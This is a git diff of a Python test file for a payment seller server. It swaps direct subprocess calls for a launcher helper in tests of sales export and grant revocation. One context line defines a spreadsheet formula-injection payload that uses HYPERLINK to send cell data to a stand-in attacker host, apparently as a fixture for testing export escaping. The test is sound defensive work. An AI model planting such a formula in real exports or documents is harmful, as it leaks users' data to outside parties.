@@ -13,7 +13,6 @@ import io
 import json
 import os
 import subprocess
-import sys
 import time
 
 from eth_account.signers.local import LocalAccount
@@ -24,6 +23,7 @@ from tests.support.problems import assert_problem
 from tests.support.purchase import buy
 from x402srv.access.records import State, Transition
 from x402srv.default_plugins.memory_store import MemoryStore
+from x402srv.testing import launcher
 from x402srv.testing.builders import BASE_TIME, make_record, new_tx_hash
 from x402srv.testing.buyers import paying_client
 from x402srv.usage.sales import FIELDS, cell, render, sale_rows
@@ -34,14 +34,10 @@ FORMULA_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'
 
 def export_sales(console: Console, *args: str) -> subprocess.CompletedProcess[str]:
     server = console.seller.server
-    return subprocess.run(
-        [sys.executable, "-m", "x402srv", "export-sales", "--config", "seller.toml", *args],
+    return launcher.run(
+        ["export-sales", "--config", "seller.toml", *args],
         cwd=server.directory,
         env={**os.environ, **server.env},
-        capture_output=True,
-        text=True,
-        timeout=120,
-        check=False,
     )
 
 
@@ -176,25 +172,11 @@ async def test_grants_revoke_from_the_command_line(console: Console, buyer: Loca
     revoked_before = console.ok("/funnel")["revoked"]
 
     def revoke() -> subprocess.CompletedProcess[str]:
-        return subprocess.run(
-            [
-                sys.executable,
-                "-m",
-                "x402srv",
-                "grants",
-                "revoke",
-                grant["challengeId"],
-                "--config",
-                "seller.toml",
-                "--reason",
-                "fraud",
-            ],
+        args = ["grants", "revoke", grant["challengeId"], "--reason", "fraud"]
+        return launcher.run(
+            [*args, "--config", "seller.toml"],
             cwd=server.directory,
             env={**os.environ, **server.env},
-            capture_output=True,
-            text=True,
-            timeout=120,
-            check=False,
         )
 
     first = revoke()
